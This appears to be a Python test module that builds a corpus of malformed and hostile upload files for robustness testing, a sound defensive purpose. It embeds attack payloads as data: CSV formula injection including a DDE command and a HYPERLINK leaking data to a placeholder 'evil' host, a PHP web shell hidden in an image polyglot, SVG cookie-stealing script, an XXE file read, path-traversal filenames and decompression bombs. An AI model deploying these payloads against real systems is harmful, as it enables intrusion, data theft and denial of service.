"""A corpus of malformed uploads, built at test time (issue 17 §5): at least 200 files —
empty, wrong extension vs content, truncated images and videos, decompression bombs,
zip-bomb XLSX, formula-injection and million-row CSVs, non-UTF-8 text, hostile names
(path traversal, NUL, 300 characters), polyglots, SVG with script, absurd video
dimensions, over-size. No binary is committed: every file is made here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from .builders import jpeg, png


@dataclass(frozen=True)
class Sample:
    id: str
    name: str
    content: bytes


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _xlsx(rows: list[list[object]]) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_bomb() -> bytes:
    """A valid-looking workbook whose sheet expands to ~100 MB."""
    good = zipfile.ZipFile(io.BytesIO(_xlsx([["学号", "成绩"], ["x", 1]])))
    members = {n: good.read(n) for n in good.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = sheet.replace(b"<t>x</t>", b"<t>" + b"A" * (100 * 1024 * 1024) + b"</t>")
    return _zip(members)


def _video(tmp: Path, width: int, height: int, frames: int = 12) -> bytes:
    import cv2
    import numpy as np

    path = tmp / f"v{width}x{height}.mp4"
    writer = cv2.VideoWriter(str(path), cv2.VideoWriter_fourcc(*"mp4v"), 10, (width, height))
    for i in range(frames):
        writer.write(np.full((height, width, 3), 40 + i * 10, np.uint8))
    writer.release()
    return path.read_bytes()


def _mp4_header(width: int, height: int) -> bytes:
    """An MP4 whose track header claims width×height and which holds no frame."""
    def box(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", 8 + len(payload)) + kind + payload

    tkhd = box(b"tkhd", b"\x00" * 76 + struct.pack(">II", (width << 16) & 0xFFFFFFFF, (height << 16) & 0xFFFFFFFF))
    return box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41") + box(b"moov", box(b"trak", tkhd))


def _gif() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00" \
           b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


def _png_bad_crc() -> bytes:
    data = bytearray(png(64, 64))
    data[29] ^= 0xFF  # inside the IHDR CRC
    return bytes(data)


def build_corpus(tmp: Path) -> list[Sample]:
    good_png = png(64, 64)
    good_jpeg = jpeg(96, 96)
    video = _video(tmp, 64, 48)
    strip_video = _video(tmp, 16, 1024, frames=3)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
    html = b"<!doctype html><script>alert(1)</script>"
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n"  # cut before %%EOF
    csv_injection = "student_number,name,score\n" + "".join(
        f"X{i},{formula},50\n" for i, formula in enumerate(
            ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3"]))
    samples: list[Sample] = []

    def add(id_: str, name: str, content: bytes) -> None:
        samples.append(Sample(id_, name, content))

    # Empty files under every name a client might use.
    for ext in ("png", "jpg", "webp", "mp4", "webm", "mov", "csv", "xlsx", "pdf", "txt", "svg", "gif"):
        add(f"empty-{ext}", f"empty.{ext}", b"")
    # Wrong extension for the content.
    contents = {"text": b"just some text\n" * 20, "html": html, "pdf": pdf, "gif": _gif(), "svg": svg,
                "zip": _zip({"a.txt": b"hello"}), "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
                "csv": csv_injection.encode(), "exe": b"MZ\x90\x00" + b"\x00" * 300}
    for kind, data in contents.items():
        for ext in ("png", "jpg", "mp4", "webm", "mov", "xlsx", "csv", "txt"):
            add(f"{kind}-as-{ext}", f"file.{ext}", data)
    # Truncated images and videos.
    for fraction in (0.01, 0.05, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9, 0.99):
        cut = int(len(good_png) * fraction)
        add(f"png-truncated-{fraction}", "cut.png", png(400, 400, rows=int(400 * fraction)))
        add(f"png-bytes-truncated-{fraction}", "cut2.png", good_png[:cut])
        add(f"jpeg-truncated-{fraction}", "cut.jpg", good_jpeg[: int(len(good_jpeg) * fraction)])
        add(f"mp4-truncated-{fraction}", "cut.mp4", video[: int(len(video) * fraction)])
    # The right magic bytes followed by noise.
    import random

    magics = {"png": b"\x89PNG\r\n\x1a\n", "jpg": b"\xff\xd8\xff\xe0", "webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
              "mp4": b"\x00\x00\x00\x18ftypisom", "webm": b"\x1a\x45\xdf\xa3webm", "mov": b"\x00\x00\x00\x14ftypqt  "}
    noise = random.Random(17)
    for ext, magic in magics.items():
        for n in range(3):
            add(f"noise-{ext}-{n}", f"noise.{ext}", magic + bytes(noise.randrange(256) for _ in range(2000 * (n + 1))))
    add("png-bad-crc", "crc.png", _png_bad_crc())
    add("png-header-only", "head.png", b"\x89PNG\r\n\x1a\n")
    add("jpeg-soi-only", "soi.jpg", b"\xff\xd8\xff")
    # Decompression bombs and absurd dimensions.
    for side in (20000, 65000):
        add(f"png-header-bomb-{side}", "bomb.png", _png_bomb_header(side, side))
    add("png-real-bomb", "bomb2.png", png(10000, 10000, color=False))
    add("png-strip", "strip.png", png(20000, 1, color=False))
    add("png-tall-strip", "tall.png", png(30, 4000, color=False))
    add("png-1x1", "dot.png", png(1, 1))
    for w, h in ((65535, 65535), (1, 60000), (65535, 2)):
        add(f"mp4-header-{w}x{h}", "huge.mp4", _mp4_header(w, h))
    add("mp4-strip", "strip.mp4", strip_video)
    add("webm-header-only", "a.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01webm" + b"\x00" * 40)
    add("mov-header-only", "a.mov", b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ")
    # Spreadsheets that attack the import.
    add("xlsx-zip-bomb", "bomb.xlsx", _xlsx_bomb())
    add("xlsx-last-row", "last.xlsx", _xlsx_with_cell_at(1048576))
    add("xlsx-not-zip", "fake.xlsx", b"PK\x03\x04" + b"\x00" * 100)
    add("xlsx-empty-zip", "empty-zip.xlsx", _zip({}))
    add("xlsx-no-columns", "cols.xlsx", _xlsx([["a", "b"], [1, 2]]))
    add("csv-injection", "inject.csv", csv_injection.encode())
    add("csv-million-rows", "big.csv", b"student_number,score\n" + b"1,1\n" * 1_000_000)
    add("csv-gbk", "gbk.csv", "学号,成绩\n张三,90\n".encode("gb18030"))
    add("csv-latin1", "latin1.csv", "student_number,score\nJos\xe9,90\n".encode("latin-1"))
    add("csv-utf16-nobom", "u16.csv", "student_number,score\n1,2\n".encode("utf-16-le"))
    add("csv-huge-cell", "cell.csv", b"student_number,score\n\"" + b"x" * 300_000 + b"\",1\n")
    add("csv-unclosed-quote", "quote.csv", b'student_number,score\n"1,2\n3,4\n')
    add("csv-binary", "bin.csv", bytes(range(256)) * 10)
    add("csv-only-header", "hdr.csv", b"student_number,score\n")
    add("csv-wrong-header", "wrong.csv", b"a,b\n1,2\n")
    # Hostile names on otherwise ordinary content.
    for i, name in enumerate(["../../../../etc/passwd.png", "..\\..\\windows\\win.ini.png", "/etc/shadow.png",
                              "a\x00.png", "a\x00.csv", ".", "..", "....//....//x.png", "%2e%2e%2fx.png",
                              "x" * 300 + ".png", "y" * 300 + ".csv", "con.png", "\u202egnp.exe", "nul\x00.xlsx",
                              "a\r\nContent-Type: text/html.png", "<script>.png", "名字" * 150 + ".jpg"]):
        for kind, data in (("text", b"not an image"), ("csv", b"student_number,score\nnobody,1\n")):
            add(f"name-{i}-{kind}", name, data)
    # Polyglots: two formats at once.
    add("png-zip-polyglot", "poly.png", good_png + _zip({"evil.jsp": b"<% out.println(1) %>"}))
    add("png-html-polyglot", "poly2.png", good_png + html)
    add("jpeg-zip-polyglot", "poly.jpg", good_jpeg[:-2] + _zip({"x.php": b"<?php system($_GET[c]); ?>"}))
    add("gif-js-polyglot", "poly.gif", b"GIF89a/*" + b"\x00" * 20 + b"*/=alert(1);")
    add("pdf-html-polyglot", "poly.pdf", pdf + html)
    add("zip-png-polyglot", "poly3.png", _zip({"a.png": good_png}))
    add("svg-script", "x.svg", svg)
    add("svg-script-as-png", "x.png", svg)
    add("svg-xxe", "xxe.svg", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>')
    add("html-page-as-jpeg", "page.jpeg", html)
    # Over the size limits of each endpoint.
    add("oversize-60mb", "big.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * (60 * 1024 * 1024))
    add("oversize-12mb-csv", "big2.csv", b"student_number,score\n" + b"9,9\n" * (3 * 1024 * 1024))
    return samples


def _png_bomb_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = zlib.compress(b"\x00" * (1 + 3 * min(width, 4096)) * 4)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def _xlsx_with_cell_at(row: int) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["学号", "成绩"])
    workbook.active.cell(row=row, column=1, value="x")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
